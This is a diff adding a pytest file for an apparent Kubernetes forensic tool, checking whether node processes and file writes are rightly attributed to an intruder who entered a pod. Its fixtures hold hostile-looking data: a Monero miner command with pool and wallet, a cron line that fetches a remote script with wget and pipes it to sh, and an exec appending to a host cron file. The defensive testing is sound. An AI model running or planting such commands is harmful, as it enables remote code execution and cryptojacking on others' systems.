@@ -1,0 +1,171 @@
+"""Claims about what on a node is told as an intruder's: what came before them is not, and what is doubtful says so."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from kubewitness.incident.investigate import Options, investigate
+from kubewitness.model.document import Document
+from kubewitness.model.incident import Incident, Step
+from kubewitness.rules.loader import RuleSet
+from tests.incident.logs import DOOR, Log
+from tests.incident.test_intrusions import open_the_door
+from tests.incident.test_nodes import RECORDED, node, only
+
+UID = "11111111-2222-4333-8444-555555555555"
+CONTAINER = "ab" * 32
+WALLET = "46EPFzvnX5GH61ejkPpNcRNm8kVjs8oHS9VwCkKRCrJX27XEW2y1NPLfSa54DGHxqnKfzDUVW1jzBfekk3hrCV"
+MINER = f"./.system -o pool.supportxmr.com:3333 -u {WALLET}"
+BEFORE, AFTER = "Mon Mar  2 01:00:09 2026", "Mon Mar  2 13:10:09 2026"
+
+
+def machine(folder: Path, started: str, command: str) -> None:
+    """A machine on which `command` runs in pod shop/web-0."""
+    root = folder / "nodes" / "node-a"
+    log = root / "var/log/pods" / f"shop_web-0_{UID}" / "web" / "0.log"
+    log.parent.mkdir(parents=True)
+    log.write_text("2026-03-02T01:00:00.000000000Z stdout F ready\n")
+    (root / "ps.txt").write_text(
+        "USER         PID    PPID                  STARTED COMMAND\n"
+        "root           1       0 Mon Mar  2 01:00:00 2026 /sbin/init\n"
+        f"root        4411       1 {started} {command}\n"
+    )
+    (root / "cgroups.txt").write_text(f"1 4:memory:/\n4411 4:memory:/kubepods/besteffort/pod{UID}/{CONTAINER}\n")
+
+
+def entered(folder: Path, command: str = "id") -> None:
+    """An audit log in which an intruder runs `command` in pod shop/web-0 at 13:10."""
+    log = Log()
+    log.quiet_day()
+    open_the_door(log)
+    query = "?" + "&".join(f"command={word}" for word in command.split())
+    log.request("create", "pods", subresource="exec", namespace="shop", name="web-0", at="13:10", query=query, code=101,
+                by="system:anonymous", address="203.0.113.77", agent="python-requests/2.31", reason=DOOR)  # fmt: skip
+    log.write(folder / "audit.log")
+
+
+def looked_at(folder: Path, rules: RuleSet) -> Document:
+    return investigate([str(folder)], rules=rules, options=Options())
+
+
+def of_the_log(document: Document) -> Incident:
+    (incident,) = [incident for incident in document.incidents if incident.audit_ids]
+    return incident
+
+
+def on_node(incident: Incident) -> list[Step]:
+    return [step for step in incident.steps if any(rule.startswith("host/") for rule in step.rules)]
+
+
+def test_what_ran_in_a_pod_before_the_intruder_entered_it_is_not_told_as_theirs(tmp_path: Path, rules: RuleSet) -> None:
+    entered(tmp_path)
+    machine(tmp_path, BEFORE, MINER)
+    document = looked_at(tmp_path, rules)
+    theirs = of_the_log(document)
+    (other,) = [incident for incident in document.incidents if incident is not theirs]
+    assert not on_node(theirs)
+    assert "host/miner_process" in {rule for step in other.steps for rule in step.rules}
+    for incident in (theirs, other):
+        assert any("before the intruder" in text.en and "早于" in text.zh for text in incident.limitations)
+
+
+def test_an_innocent_program_that_was_there_before_is_a_finding_of_no_incident(tmp_path: Path, rules: RuleSet) -> None:
+    entered(tmp_path)
+    machine(tmp_path, BEFORE, "/tmp/job --fast")
+    document = looked_at(tmp_path, rules)
+    assert not on_node(only(document))
+    assert [f.incident for f in document.findings if f.rule == "host/hidden_program_running"] == [""]
+
+
+def test_what_began_after_the_intruder_entered_is_inferred_to_be_theirs(tmp_path: Path, rules: RuleSet) -> None:
+    entered(tmp_path)
+    machine(tmp_path, AFTER, MINER)
+    (step,) = on_node(only(looked_at(tmp_path, rules)))
+    assert step.inferred
+    assert "inferred" in step.why.en
+    assert "推断" in step.why.zh
+
+
+def test_the_very_command_that_the_intruder_asked_for_is_theirs(tmp_path: Path, rules: RuleSet) -> None:
+    entered(tmp_path, MINER)
+    machine(tmp_path, AFTER, MINER)
+    (step,) = on_node(only(looked_at(tmp_path, rules)))
+    assert not step.inferred
+
+
+def test_a_process_of_unknown_age_in_an_entered_pod_says_so(tmp_path: Path, rules: RuleSet) -> None:
+    entered(tmp_path)
+    machine(tmp_path, "                   01:00", MINER)
+    (step,) = on_node(only(looked_at(tmp_path, rules)))
+    assert step.inferred
+    assert "not known" in step.why.en
+
+
+@pytest.mark.parametrize(
+    ("command", "theirs"),
+    [
+        ("sh -c echo+x>>/host/etc/cron.d/.sysstat", True),
+        ("cat /host/etc/cron.d/.sysstat", False),
+        ("cat /host/etc/cron.d/.sysstat 2>/dev/null", False),
+        ("cp a /host/etc/cron.d/.sysstat-old", False),
+    ],
+)
+def test_who_only_reads_a_file_did_not_write_it(
+    command: str, theirs: bool, tmp_path: Path, rules: RuleSet
+) -> None:  # fmt: skip
+    entered(tmp_path, command)
+    machine(tmp_path, BEFORE, "/app/web")
+    cron = tmp_path / "nodes/node-a/etc/cron.d/.sysstat"
+    cron.parent.mkdir(parents=True)
+    cron.write_text("*/10 * * * * root wget -q -O - http://203.0.113.35/u.sh | sh\n")
+    assert bool(on_node(of_the_log(looked_at(tmp_path, rules)))) is theirs
+
+
+def test_commands_that_left_a_line_because_they_failed_are_not_told_as_successes(
+    tmp_path: Path, rules: RuleSet
+) -> None:
+    steps = only(looked_at(node(tmp_path), rules)).steps
+    (fan_out,) = [step for step in steps if "host/kubelet_exec_fan_out" in step.rules]
+    assert fan_out.requests == 4
+    assert fan_out.succeeded == 0
+
+
+def test_commands_through_a_kubelet_that_is_closed_are_not_said_to_have_passed_by_the_api_server(
+    rules: RuleSet,
+) -> None:
+    document = investigate([str(RECORDED / "nodes_proxy" / "evidence" / "nodes")], rules=rules, options=Options())
+    incident = only(document)
+    assert incident.entry_point
+    assert incident.verdict
+    assert "past the API server" not in incident.entry_point.description.en
+    assert "nodes/proxy" in incident.entry_point.description.en
+    assert "nodes/proxy" in incident.entry_point.description.zh
+    assert incident.verdict.verdict == "undetermined", "one download in one container is no worm"
+
+
+def test_an_open_kubelet_through_which_no_command_is_seen_is_an_inferred_way_in(tmp_path: Path, rules: RuleSet) -> None:
+    incident = only(looked_at(node(tmp_path, fan_out=False), rules))
+    assert incident.root_causes
+    assert any("inferred" in text.en for text in incident.limitations)
+
+
+def test_nobody_is_told_to_kill_a_process_that_is_merely_unusual(tmp_path: Path, rules: RuleSet) -> None:
+    folder = node(tmp_path)
+    listed = folder / "nodes/worker-3/ps.txt"
+    listed.write_text(listed.read_text() + "admin       5000       1 Sun Nov 22 03:30:00 2026 /tmp/install --quiet\n")
+    incident = only(looked_at(folder, rules))
+    (stop,) = [action for action in incident.actions if action.phase == "stop"]
+    assert "4411" in stop.command
+    assert "5000" not in stop.command
+    assert incident.status[0][1].en.startswith("1 process of the intruder was")
+    (step,) = [step for step in incident.steps if "/tmp/install" in step.command]
+    assert step.inferred
+    assert "somebody else's" in step.why.en
+
+
+def test_sentences_of_the_story_end(tmp_path: Path, rules: RuleSet) -> None:
+    story = only(looked_at(node(tmp_path), rules)).story
+    assert all(text.en.rstrip().endswith(".") for text in story)
+    assert all(text.zh.rstrip().endswith("。") for text in story)
